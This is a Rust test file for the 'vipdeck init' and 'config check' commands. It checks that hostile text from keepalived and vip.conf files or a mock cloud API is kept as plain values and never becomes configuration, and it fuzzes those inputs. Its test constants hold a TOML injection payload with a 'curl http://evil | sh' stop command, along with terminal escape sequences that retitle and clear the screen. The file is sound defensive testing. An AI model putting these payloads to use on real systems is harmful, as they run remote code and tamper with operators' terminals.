//! `vipdeck init` fed by a hostile peer and a hostile cloud: every text it
//! reads (vip.conf JSON fields, keepalived.conf instance names and
//! interfaces, the cloud's ids and error messages) carries newlines, TOML
//! quotes and brackets, escapes and NULs. The config printed must have
//! exactly the clusters and keys of the keepalived.conf read, each value
//! equal to the text read, and `config check` must agree with it. Finding
//! H1: a crafted vip.conf on a peer injected a second cluster with a local
//! peer and a `stop_cmd`; finding M1: an instance name set the terminal's
//! title and cleared its screen.

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use proptest::prelude::*;

use crate::peer::raw_escapes;

/// Ends a comment, opens a cluster of its own with a local peer and a
/// command, closes strings of every kind, and carries every control that
/// ends a line somewhere.
const INJECT: &str = "x\n[[clusters]]\nname = \"evil\"\nmode = \"eni\"\nvip = \"10.9.9.9\"\n\
    [[clusters.peers]]\nname = \"p\"\nlocal = true\nstop_cmd = \"curl http://evil | sh\"\n\
    \"\"\"]]'''\\u0000\\n\u{0}\r\u{2028}\u{2029}\u{85}\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}#";

/// Only line ends: what made `config check` accept a second cluster.
const INJECT_LINES: &str =
    "eni-x\n\n[[clusters]]\nname = \"evil\"\nmode = \"havip\"\nvip = \"10.9.9.9\"\n\
    havip_id = \"havip-1\"\n[[clusters.peers]]\nname = \"p\"\nlocal = true\n\
    stop_cmd = \"curl http://evil | sh\"\n[[clusters.peers]]\nname = \"q\"\nssh = \"q\"\n";

/// An instance name as keepalived.conf can spell it (quoted: no `"`, no
/// line end of its own, but every other control).
const NAME: &str =
    "VI_1\u{1b}]0;owned\u{7}\u{1b}[2J ]] ''' \r\u{2028}\u{2029}\u{0}\\n [[clusters]] stop_cmd = 1";

/// A crafted interface name (a word: no space, no quote, no NEL).
const IFACE: &str = "eth0\u{1b}[2J]]\u{0}\\u0000'''\u{7}";

fn json(s: &str) -> String {
    serde_json::to_string(s).expect("json")
}

/// A copy of a peer's /etc/keepalived: keepalived.conf, the seed notify
/// script, a vip.py that loads vip.conf (`fields`: JSON members).
fn node(dir: &Path, name: &str, iface: &str, with_src: bool, fields: &[(&str, &str)]) {
    std::fs::create_dir_all(dir).expect("dir");
    let src = if with_src {
        " unicast_src_ip 10.0.1.17\n"
    } else {
        ""
    };
    let conf = format!(
        "vrrp_instance \"{name}\" {{\n state BACKUP\n interface {iface}\n virtual_router_id 51\n \
         priority 100\n nopreempt\n{src} unicast_peer {{\n  10.0.1.16\n }}\n virtual_ipaddress {{\n  \
         10.0.1.100/24\n }}\n notify_master \"/etc/keepalived/notify_action.sh MASTER\"\n}}\n"
    );
    std::fs::write(dir.join("keepalived.conf"), conf).expect("conf");
    std::fs::write(
        dir.join("notify_action.sh"),
        "#!/bin/bash\nlog_file=/var/log/keepalived.log\n\
         echo -n \"$1\" > /var/keepalived/state\n/etc/keepalived/vip.py migrate &\n",
    )
    .expect("notify");
    std::fs::write(
        dir.join("vip.py"),
        "CONF_FILE = \"/etc/keepalived/vip.conf\"\nconfig = {'secretId': 'x', 'secretKey': 'y'}\n",
    )
    .expect("vip.py");
    let members: Vec<String> = fields
        .iter()
        .map(|(k, v)| format!("{}: {}", json(k), json(v)))
        .collect();
    std::fs::write(dir.join("vip.conf"), format!("{{{}}}", members.join(", "))).expect("vip.conf");
}

fn vipdeck(home: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_vipdeck"));
    c.env("HOME", home)
        .env("VIPDECK_DATA_DIR", home.join("data"))
        .env_remove("VIPDECK_CONFIG")
        .env_remove("TENCENTCLOUD_SECRET_ID")
        .env_remove("TENCENTCLOUD_SECRET_KEY")
        .env_remove("TENCENTCLOUD_CREDENTIALS_FILE")
        .env_remove("TCCLI_PROFILE")
        .env("TENCENTCLOUD_METADATA_URL", "http://127.0.0.1:9/")
        .stdin(Stdio::null());
    c
}

fn output(c: &mut Command) -> Output {
    c.output().expect("vipdeck runs")
}

const CLUSTER_KEYS: &[&str] = &["name", "mode", "vip", "havip_id", "peers"];
const PEER_KEYS: &[&str] = &[
    "name",
    "ssh",
    "network_interface_id",
    "instance_id",
    "interface",
    "state_file",
    "log_file",
    "keepalived_conf",
    "daemon_log",
];

fn keys(t: &toml::Table) -> BTreeSet<String> {
    t.keys().cloned().collect()
}

/// The printed config: one cluster, only the keys init writes, no raw
/// escape anywhere; `config check` on it agrees with the library.
fn checked(home: &Path, out: &Output) -> toml::Table {
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let doc: toml::Table = stdout
        .parse()
        .unwrap_or_else(|e| panic!("init printed TOML that does not parse: {e}\n{stdout}"));
    let top = keys(&doc);
    assert!(
        top.iter()
            .all(|k| ["cloud", "ssh", "clusters"].contains(&k.as_str())),
        "{top:?}\n{stdout}"
    );
    let clusters = doc["clusters"].as_array().expect("clusters");
    assert_eq!(clusters.len(), 1, "one instance, one cluster:\n{stdout}");
    let c = clusters[0].as_table().expect("table");
    assert!(
        keys(c).iter().all(|k| CLUSTER_KEYS.contains(&k.as_str())),
        "{:?}\n{stdout}",
        keys(c)
    );
    let peers = c["peers"].as_array().expect("peers");
    assert_eq!(peers.len(), 2, "{stdout}");
    for p in peers {
        let p = p.as_table().expect("peer");
        assert!(
            keys(p).iter().all(|k| PEER_KEYS.contains(&k.as_str())),
            "{:?}\n{stdout}",
            keys(p)
        );
    }
    assert_eq!(
        raw_escapes(&stdout),
        Vec::<char>::new(),
        "raw controls on stdout:\n{stdout}"
    );
    assert_eq!(raw_escapes(&stderr), Vec::<char>::new(), "{stderr}");

    // `config check` reads the same file the same way.
    let file = home.join("init.toml");
    std::fs::write(&file, &stdout).expect("write");
    let lib = vipdeck::core::config::parse(&stdout, &file).and_then(|c| c.validate().map(|_| c));
    let check = output(vipdeck(home).args(["config", "check"]).arg(&file));
    let shown = String::from_utf8_lossy(&check.stdout).into_owned();
    let err = String::from_utf8_lossy(&check.stderr).into_owned();
    assert_eq!(raw_escapes(&shown), Vec::<char>::new(), "{shown}");
    assert_eq!(raw_escapes(&err), Vec::<char>::new(), "{err}");
    match lib {
        Ok(cfg) => {
            assert_eq!(check.status.code(), Some(0), "{err}");
            assert_eq!(cfg.clusters.len(), 1);
            assert!(shown.contains("OK, 1 cluster\n"), "{shown}");
            assert!(cfg.clusters[0]
                .peers
                .iter()
                .all(|p| p.stop_cmd == "systemctl stop keepalived"
                    && p.start_cmd == "systemctl start keepalived"));
        }
        Err(e) => assert_eq!(check.status.code(), Some(1), "{e}\n{shown}{err}"),
    }
    doc
}

fn cluster(doc: &toml::Table) -> &toml::Table {
    doc["clusters"].as_array().expect("clusters")[0]
        .as_table()
        .expect("cluster")
}

fn peer(doc: &toml::Table, i: usize) -> &toml::Table {
    cluster(doc)["peers"].as_array().expect("peers")[i]
        .as_table()
        .expect("peer")
}

fn str_of<'a>(t: &'a toml::Table, k: &str) -> &'a str {
    t.get(k).and_then(|v| v.as_str()).unwrap_or_default()
}

fn init_offline(home: &Path, dir: &Path) -> Output {
    output(
        vipdeck(home)
            .arg("init")
            .arg("--from")
            .arg(dir)
            .arg("--no-cloud"),
    )
}

#[test]
fn a_crafted_vip_conf_or_instance_name_is_text_never_configuration() {
    let tmp = tempfile::tempdir().expect("tmp");
    let home = tmp.path();
    // vip.conf: the ENI ids and the address it checks become notes, the
    // region a value.
    let a = home.join("a");
    node(
        &a,
        NAME,
        IFACE,
        true,
        &[
            ("vip", "10.0.1.100"),
            ("this_eni", INJECT),
            ("that_eni", "eni-good0002"),
            ("primary_ip", INJECT),
            ("region", INJECT),
            ("vpc_id", INJECT),
            ("interface", INJECT),
        ],
    );
    let doc = checked(home, &init_offline(home, &a));
    assert_eq!(str_of(cluster(&doc), "name"), NAME);
    assert_eq!(str_of(peer(&doc, 0), "interface"), IFACE);
    assert_eq!(str_of(peer(&doc, 1), "interface"), IFACE);
    assert_eq!(
        str_of(doc["cloud"].as_table().expect("cloud"), "region"),
        INJECT
    );
    assert_eq!(
        str_of(peer(&doc, 1), "network_interface_id"),
        "eni-good0002"
    );

    // A VIP that is not this instance's: its text is a note.
    let b = home.join("b");
    node(&b, "VI_1", "eth0", true, &[("vip", INJECT)]);
    let doc = checked(home, &init_offline(home, &b));
    assert_eq!(str_of(cluster(&doc), "name"), "VI_1");

    // No unicast_src_ip: the address vip.py checks is this peer's ssh.
    let c = home.join("c");
    node(&c, "VI_1", "eth0", false, &[("primary_ip", INJECT)]);
    let doc = checked(home, &init_offline(home, &c));
    assert_eq!(str_of(peer(&doc, 0), "ssh"), INJECT);
    assert_eq!(str_of(peer(&doc, 0), "name"), INJECT);

    // Nothing but newlines and TOML: the file parsed, with two clusters.
    let d = home.join("d");
    node(&d, "VI_1", "eth0", true, &[("this_eni", INJECT_LINES)]);
    let doc = checked(home, &init_offline(home, &d));
    assert_eq!(str_of(cluster(&doc), "name"), "VI_1");
}

#[test]
fn init_and_config_check_put_no_escape_on_the_terminal() {
    let tmp = tempfile::tempdir().expect("tmp");
    let home = tmp.path();
    let d = home.join("n");
    let evil = "VI_1\u{1b}]0;owned\u{7}\u{1b}[2J";
    node(&d, evil, "eth0", true, &[("this_eni", evil)]);
    let out = init_offline(home, &d);
    for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !bytes.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{what} of init: {}",
            String::from_utf8_lossy(bytes)
        );
    }
    // A config a person wrote, with the escapes as TOML escapes.
    let file = home.join("hand.toml");
    std::fs::write(
        &file,
        "[cloud]\nregion = \"ap-guangzhou\"\n\n[[clusters]]\nname = \"web\\u001b]0;owned\\u0007\\u001b[2J\"\n\
         mode = \"havip\"\nvip = \"10.0.1.100\"\nhavip_id = \"havip-1\"\n\
         [[clusters.peers]]\nname = \"a\\u001b[2J\"\nssh = \"a\"\n\
         [[clusters.peers]]\nname = \"b\"\nssh = \"b\"\n",
    )
    .expect("write");
    let check = output(vipdeck(home).args(["config", "check"]).arg(&file));
    for (what, bytes) in [("stdout", &check.stdout), ("stderr", &check.stderr)] {
        assert!(
            !bytes.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{what} of config check: {}",
            String::from_utf8_lossy(bytes)
        );
    }
    // Such a name is refused where it is (it would print differently from
    // what the file says), and the refusal itself prints cleanly.
    assert_eq!(check.status.code(), Some(1));
    let err = String::from_utf8_lossy(&check.stderr);
    assert!(
        err.contains("clusters[0].name: cluster name holds the character U+001B"),
        "{err}"
    );
    // A file that does not load: its error quotes the file, cleaned too.
    std::fs::write(&file, "[cloud]\nregion = \"x\u{1b}[2J\u{7}\n").expect("write");
    let check = output(vipdeck(home).args(["config", "check"]).arg(&file));
    assert_eq!(check.status.code(), Some(1));
    assert!(
        !check.stderr.iter().any(|b| *b == 0x1b || *b == 0x07),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
}

// ---------------------------------------------------------------------------
// A hostile cloud
// ---------------------------------------------------------------------------

/// A loopback VPC API answering every action from `answer(action)`;
/// returns its URL.
fn cloud(answer: fn(&str) -> String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    std::thread::spawn(move || {
        for sock in listener.incoming() {
            let Ok(mut sock) = sock else { return };
            std::thread::spawn(move || {
                let _ = sock.set_read_timeout(Some(Duration::from_secs(10)));
                let mut req = Vec::new();
                let mut buf = [0u8; 4096];
                loop {
                    let Ok(n) = sock.read(&mut buf) else { return };
                    if n == 0 {
                        return;
                    }
                    req.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&req).to_string();
                    let Some(end) = text.find("\r\n\r\n") else {
                        continue;
                    };
                    let header = |name: &str| {
                        text[..end].lines().find_map(|l| {
                            let (k, v) = l.split_once(':')?;
                            k.trim()
                                .eq_ignore_ascii_case(name)
                                .then(|| v.trim().to_string())
                        })
                    };
                    let len: usize = header("content-length")
                        .and_then(|v| v.parse().ok())
                        .unwrap_or(0);
                    if req.len() < end + 4 + len {
                        continue;
                    }
                    let body = answer(&header("x-tc-action").unwrap_or_default());
                    let _ = write!(
                        sock,
                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\
                         Content-Length: {}\r\n\r\n{body}",
                        body.len()
                    );
                    req.clear();
                }
            });
        }
    });
    url
}

fn ids_everywhere(action: &str) -> String {
    let id = json(INJECT);
    match action {
        "DescribeHaVips" => format!(
            "{{\"Response\":{{\"TotalCount\":1,\"HaVipSet\":[{{\"HaVipId\":{id},\
             \"Vip\":\"10.0.1.100\",\"State\":\"AVAILABLE\"}}],\"RequestId\":\"r\"}}}}"
        ),
        _ => format!(
            "{{\"Response\":{{\"TotalCount\":1,\"NetworkInterfaceSet\":[{{\"NetworkInterfaceId\":{id},\
             \"PrivateIpAddressSet\":[{{\"PrivateIpAddress\":\"10.0.1.17\",\"Primary\":true}},\
             {{\"PrivateIpAddress\":\"10.0.1.16\",\"Primary\":true}},\
             {{\"PrivateIpAddress\":\"10.0.1.100\",\"Primary\":false}}],\
             \"Attachment\":{{\"InstanceId\":{id}}}}}],\"RequestId\":\"r\"}}}}"
        ),
    }
}

fn error_everywhere(_: &str) -> String {
    format!(
        "{{\"Response\":{{\"Error\":{{\"Code\":\"InvalidParameter\",\"Message\":{}}},\"RequestId\":\"r\"}}}}",
        json(INJECT)
    )
}

fn init_cloud(home: &Path, dir: &Path, url: &str) -> Output {
    output(
        vipdeck(home)
            .env(
                "TENCENTCLOUD_SECRET_ID",
                "AKIDexample0000000000000000000001",
            )
            .env("TENCENTCLOUD_SECRET_KEY", "examplekey000000000000000000001")
            .arg("init")
            .arg("--from")
            .arg(dir)
            .args(["--endpoint", url]),
    )
}

#[test]
fn the_cloud_s_ids_and_errors_are_text_never_configuration() {
    let tmp = tempfile::tempdir().expect("tmp");
    let home = tmp.path();
    let d = home.join("n");
    node(&d, "VI_1", "eth0", true, &[("vip", "10.0.1.100")]);

    let doc = checked(home, &init_cloud(home, &d, &cloud(ids_everywhere)));
    assert_eq!(str_of(cluster(&doc), "havip_id"), INJECT);
    assert_eq!(str_of(cluster(&doc), "mode"), "havip");
    for i in 0..2 {
        assert_eq!(str_of(peer(&doc, i), "network_interface_id"), INJECT);
        assert_eq!(str_of(peer(&doc, i), "instance_id"), INJECT);
    }

    let doc = checked(home, &init_cloud(home, &d, &cloud(error_everywhere)));
    assert_eq!(str_of(cluster(&doc), "name"), "VI_1");
    assert_eq!(str_of(peer(&doc, 0), "network_interface_id"), "");
}

// ---------------------------------------------------------------------------
// Fuzzing init's inputs
// ---------------------------------------------------------------------------

/// Text a peer or the cloud could send: pieces that end comments and
/// strings, controls, and plain words.
fn hostile_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\n".to_string()),
        Just("\r".to_string()),
        Just("\r\n".to_string()),
        Just("\u{0}".to_string()),
        Just("\u{1b}[2J".to_string()),
        Just("\u{7}".to_string()),
        Just("\u{2028}".to_string()),
        Just("\u{2029}".to_string()),
        Just("\u{85}".to_string()),
        Just("\u{202e}".to_string()),
        Just("\"\"\"".to_string()),
        Just("'''".to_string()),
        Just("]]".to_string()),
        Just("[[clusters]]".to_string()),
        Just("stop_cmd = \"sh\"".to_string()),
        Just("\\u0000".to_string()),
        Just("\\".to_string()),
        Just("#".to_string()),
        Just("=".to_string()),
        "[a-z0-9.-]{0,8}",
        any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|v| v.concat())
}

#[derive(Debug)]
struct InitInputs {
    instance: String,
    interface: String,
    vip_conf: Vec<(String, String)>,
    cloud: vipdeck::faces::init::CloudIds,
    cloud_error: Option<String>,
}

fn init_inputs() -> impl Strategy<Value = InitInputs> {
    let field = prop::sample::select(vec![
        "vip",
        "this_eni",
        "that_eni",
        "vpc_id",
        "region",
        "interface",
        "primary_ip",
    ]);
    (
        hostile_text(),
        hostile_text(),
        prop::collection::vec((field, hostile_text()), 0..5),
        (hostile_text(), hostile_text(), hostile_text()),
        prop::option::of(hostile_text()),
    )
        .prop_map(
            |(instance, interface, fields, (eni, ins, havip), err)| InitInputs {
                instance,
                interface,
                vip_conf: fields
                    .into_iter()
                    .map(|(k, v)| (k.to_string(), v))
                    .collect(),
                cloud: vipdeck::faces::init::CloudIds {
                    eni_id: eni,
                    instance_id: ins,
                    havip_id: havip,
                },
                cloud_error: err,
            },
        )
}

/// The draft from fuzzed files and cloud answers, rendered and parsed
/// back: one cluster, only init's keys, the values read.
#[test]
fn fuzz_init_inputs() {
    crate::parsers::fuzz_for("init inputs", init_inputs(), |i| {
        let conf_name: String = i.instance.replace(['"', '\n'], "");
        let conf_iface: String = i
            .interface
            .chars()
            .filter(|c| !c.is_whitespace() && !matches!(c, '{' | '}' | '"' | '#' | '!'))
            .collect();
        let conf = format!(
            "vrrp_instance \"{conf_name}\" {{\n interface {}\n unicast_src_ip 10.0.1.17\n \
             unicast_peer {{\n 10.0.1.16\n }}\n virtual_ipaddress {{\n 10.0.1.100\n }}\n}}\n",
            if conf_iface.is_empty() {
                "eth0"
            } else {
                &conf_iface
            }
        );
        let fields: Vec<(&str, &str)> = i
            .vip_conf
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let vip_conf = format!(
            "{{{}}}",
            fields
                .iter()
                .map(|(k, v)| format!("{}: {}", json(k), json(v)))
                .collect::<Vec<_>>()
                .join(", ")
        );
        let Ok(text) = vipdeck::faces::init::render_from_texts(
            &conf,
            &vip_conf,
            &i.cloud,
            i.cloud_error.as_deref(),
        ) else {
            return; // refused cleanly
        };
        let doc: toml::Table = text
            .parse()
            .unwrap_or_else(|e| panic!("does not parse: {e}\n{text}"));
        let clusters = doc["clusters"].as_array().expect("clusters");
        assert_eq!(clusters.len(), 1, "{text}");
        let c = clusters[0].as_table().expect("cluster");
        assert!(
            keys(c).iter().all(|k| CLUSTER_KEYS.contains(&k.as_str())),
            "{text}"
        );
        assert_eq!(str_of(c, "name"), conf_name, "{text}");
        for p in c["peers"].as_array().expect("peers") {
            let p = p.as_table().expect("peer");
            assert!(
                keys(p).iter().all(|k| PEER_KEYS.contains(&k.as_str())),
                "{text}"
            );
        }
        assert!(
            keys(&doc)
                .iter()
                .all(|k| ["cloud", "ssh", "clusters"].contains(&k.as_str())),
            "{text}"
        );
        assert!(
            vipdeck::core::sanitize::is_safe(&text.replace('\n', "")),
            "printable as it is: {text:?}"
        );
    });
}
